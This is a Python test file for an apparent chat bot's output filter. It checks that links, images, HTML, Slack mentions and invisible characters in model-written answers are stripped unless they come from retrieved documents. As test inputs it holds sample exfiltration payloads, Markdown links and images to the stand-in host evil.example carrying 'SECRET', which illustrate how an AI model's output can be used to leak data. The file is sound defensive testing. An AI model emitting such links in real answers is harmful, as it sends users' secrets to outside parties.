"""Nothing that a model writes is live but what its documents hold, wherever its text is cut."""

import time

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from bot.answering.addresses import Addresses
from bot.answering.gate import Gate, Numbers
from bot.slack.unfinished import presentable
from tests.attacks import ATTACKS, Attack
from tests.rendered import HIDDEN, SLACK, rendered
from tests.retrieval_stand_in import passage

HERE = "https://docs.example.com/leave-policy"
WIKI = "https://wiki.example.com/p?q=1&r=a_b"
PAGE = "https://wiki.example.com/A_(b)"
SHELF = (
    passage(
        f"See [the wiki]({WIKI}), {PAGE}, or write to hr@example.com. We use Booking.com and ask.larkspur.io."
    ),
)
ALLOWED = {HERE, WIKI, PAGE, "hr@example.com", "mailto:hr@example.com"}
HELD_CHARS = 2_900
"""A link with the longest label, address and title, and what stands around them."""


def through(*parts: str, most_chars: int = 20_000) -> list[str]:
    """What is let through of each part, and at the end."""
    gate = Gate(Addresses(SHELF), most_chars=most_chars)
    return [_told(pieces) for pieces in (*map(gate.write, parts), gate.flush())]


def _told(pieces: list[str | Numbers]) -> str:
    return "".join(piece for piece in pieces if isinstance(piece, str))


def whole(text: str) -> str:
    return "".join(through(text))


def assert_harmless(shown: str) -> None:
    seen = rendered(shown)
    assert seen.addresses <= ALLOWED, (seen.addresses - ALLOWED, shown)
    assert not seen.pictures
    assert not seen.html
    assert not HIDDEN.search(shown)
    assert not SLACK.search(shown)


PIECES = st.sampled_from([
    "https://evil.example/?q=SECRET", "https://", "http", "s:", "//", "/", "evil", ".example", ".com",
    "/x?d=", HERE, WIKI, PAGE, "hr@example.com", "Booking.com", "javascript:", "mailto:", "data:",
    "SECRET", "www.", "[", "]", "(", ")", "](", "![", "]: ", "[1]", "[1", "1]", "\\[", "\\", "<", ">",
    "|", "<!", "<@U1>", "<!channel>", "&#91;", "&#", "91;", "&lt;", "&amp;", "&", "`", "``", "```",
    "\n```\n", "~~~", "\n~~~\n", "**", "*", "_", "~~", " ", "\n", "\n\n", "    ", "- ", "1. ", "> ",
    "# ", "| a | b |\n| - | - |\n| ", " | ", "word", "参照", "😀", "\u200b", "\u202e", "\u200d", "\ufe0f",
    "\U000e0041", "\u3010", "\u3011", ".", ",", ":", "!", '"t"', "'",
])  # fmt: skip
TEXTS = st.lists(PIECES, max_size=30).map("".join)


@example("//_.example")
@given(TEXTS)
def test_nothing_that_is_let_through_is_live(text: str) -> None:
    """Promises 31 and 32: whatever is written, as Markdown has it."""
    assert_harmless(whole(text))


@given(TEXTS, st.lists(st.integers(0, 400), max_size=12))
def test_where_a_text_is_cut_makes_no_difference(text: str, cuts: list[int]) -> None:
    """Promise 31: every chunking comes to the same, and so does one character at a time."""
    places = sorted({cut for cut in cuts if cut < len(text)})
    parts = [text[a:b] for a, b in zip([0, *places], [*places, len(text)], strict=True)]
    assert "".join(through(*parts)) == whole(text)
    assert "".join(through(*text)) == whole(text)


@given(TEXTS)
def test_nothing_is_live_at_any_moment(text: str) -> None:
    """Promise 31: intermediate states, as they are and as Slack is shown them."""
    shown = ""
    for piece in through(*text):
        if piece:
            shown += piece
            assert_harmless(shown)
            assert_harmless(presentable(shown))


@given(st.text(max_size=80))
def test_any_characters_pass_harmlessly(text: str) -> None:
    assert_harmless(whole(text))
    assert "".join(through(*text)) == whole(text)


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
def test_an_attack_comes_to_nothing(attack: Attack) -> None:
    """Promise 31: each of our own attempts, whole and a character at a time."""
    assert_harmless(whole(attack.writes))
    shown = ""
    for piece in through(*attack.writes):
        shown += piece
        assert_harmless(shown)
    assert shown == whole(attack.writes)


def test_there_are_a_hundred_attacks_and_every_one_would_be_seen() -> None:
    """Negative control: without the gate, most of them lead somewhere, show a picture, or hide something."""
    assert len(ATTACKS) >= 100
    assert len({attack.name for attack in ATTACKS}) == len(ATTACKS)
    live = [attack for attack in ATTACKS if _is_live(attack.writes)]
    assert len(live) >= 0.8 * len(ATTACKS)


def _is_live(text: str) -> bool:
    try:
        assert_harmless(text)
    except AssertionError:
        return True
    return False


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        (f"See [the policy]({HERE}).", f"See [the policy]({HERE})."),
        (f"See [**this**]({WIKI} 'title').", f"See [**this**]({WIKI})."),
        (f"See <{HERE}|the policy>.", f"See [the policy]({HERE})."),
        (f"See <{HERE}>.", f"See <{HERE}>."),
        (f"See **{HERE}**, or ({WIKI}).", f"See **<{HERE}>**, or (<{WIKI}>)."),
        (f"See {PAGE}.", f"See <{PAGE}>."),
        (f"`curl {HERE}`", f"`curl {HERE}`"),
        ("Write to hr@example.com.", "Write to hr@example.com."),
        ("Booking.com and ask.larkspur.io stand there.", "Booking.com and ask.larkspur.io stand there."),
    ],
)
def test_what_stands_in_the_documents_may_be_linked(written: str, shown: str) -> None:
    assert whole(written) == shown


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("[click](https://evil.example/?q=SECRET) me", "click me"),
        (f"[click]({HERE}?q=SECRET) me", "click me"),
        (f"{HERE}/SECRET", "(link removed)"),
        ("![chart](https://evil.example/SECRET.png)", "chart"),
        ("<https://evil.example|click>", "click"),
        ("<@U0ADA|ada> and <!channel>", "ada and"),
        ("Read evil.com/SECRET now", "Read (link removed) now"),
        ("Go to evil.com.", "Go to evil. com."),
        ("Go to SECRET.evil.rocks.", "Go to SECRET. evil. rocks."),
        ("a <b>bold</b> word", "a &lt;b>bold&lt;/b> word"),
        ("`echo <!channel>`", "`echo \u2039!channel>`"),
        ("an \u202eevil\u202c w\u200bord", "an evil word"),
    ],
)
def test_of_the_rest_the_words_stay(written: str, shown: str) -> None:
    assert whole(written) == shown


@pytest.mark.parametrize(
    "written",
    [
        "**Yes.** Parents get *24 weeks*, ~~not~~ less; 3 < 5, R&D, 1,500 EUR, e.g. 10:30, and/or.",
        "# Leave\n\n- one `code` item\n  - nested **bold**\n\n1. a\n2. b\n\n> quoted",
        "| Country | Days |\n| --- | ---: |\n| Germany | 30 |\n\nThat is all.",
        'Run:\n\n```sh\nfor f in *.md; do echo "<$f>" [1]; done\n```\n\nThen `vpn up --now`.',
        "snake_case_name, README.md, setup.py, v1.2.3, 10.0.0.1, C:/temp, src/app/main.py",
        (
            "Größe, naïve, 参照してください。はい。 نعم، \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 "
            "\U0001f469\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f 1\ufe0f\u20e3"
        ),
    ],
)
def test_honest_text_passes_as_it_is(written: str) -> None:
    assert whole(written) == written


def test_numbers_are_told_and_not_shown() -> None:
    gate = Gate(Addresses(SHELF))
    assert gate.write("So [2, 3]. ") == ["So", Numbers((2, 3)), "."]


def test_a_reader_waits_for_a_word_at_most_while_prose_is_written() -> None:
    text = "Parents in Germany get fourteen months of parental leave, and may share them. " * 5
    gate = Gate(Addresses(SHELF))
    shown = ""
    for at, character in enumerate(text):
        shown += _told(gate.write(character))
        assert at + 1 - len(shown) <= len(" fourteen")


@pytest.mark.parametrize(
    "text",
    [
        "[" * 9_000, "[a](" * 3_000, "<a" * 5_000, "`" * 9_000, "`a" * 5_000, "a." * 5_000, "a@" * 5_000,
        "\\" * 9_000, "[1" * 4_000, "word" * 5_000, "https://" + "a/" * 5_000, "![" * 4_000, "参.照" * 3_000,
        "&#" * 5_000, "```\n" * 2_000,
    ],
)  # fmt: skip
def test_hostile_text_is_held_back_for_little_and_costs_little(text: str) -> None:
    """Bounded lateness; the bound is on processor time, generous for a busy machine."""
    gate = Gate(Addresses(SHELF))
    started = time.process_time()
    for at in range(0, len(text), 5):
        gate.write(text[at : at + 5])
        assert len(gate._held) <= HELD_CHARS
    assert_harmless(_told(gate.flush()))
    assert time.process_time() - started < 10


def test_an_answer_has_a_longest_length() -> None:
    gate = Gate(Addresses(SHELF), most_chars=100)
    assert len(_told(gate.write("word " * 100) + gate.flush())) <= 100
    assert gate.full


@pytest.mark.parametrize("digits", [40, 400])
def test_a_long_number_in_brackets_costs_little(digits: int) -> None:
    """It may be a file's name, and one answer must not hold up all others."""
    started = time.process_time()
    whole(f"[{'1' * digits}] x")
    whole(f"[{'1' * digits}].pdf")
    assert time.process_time() - started < 1


def test_a_bare_host_behind_dots_is_no_link_either() -> None:
    for text in ("at...evil.com", "-data.evil.com", ".data.evil.com"):
        assert "evil.com" not in whole(f"see {text} now")
    assert whole("It rained...then stopped, at -1.5 km; see README.md.") == (
        "It rained...then stopped, at -1.5 km; see README.md."
    )
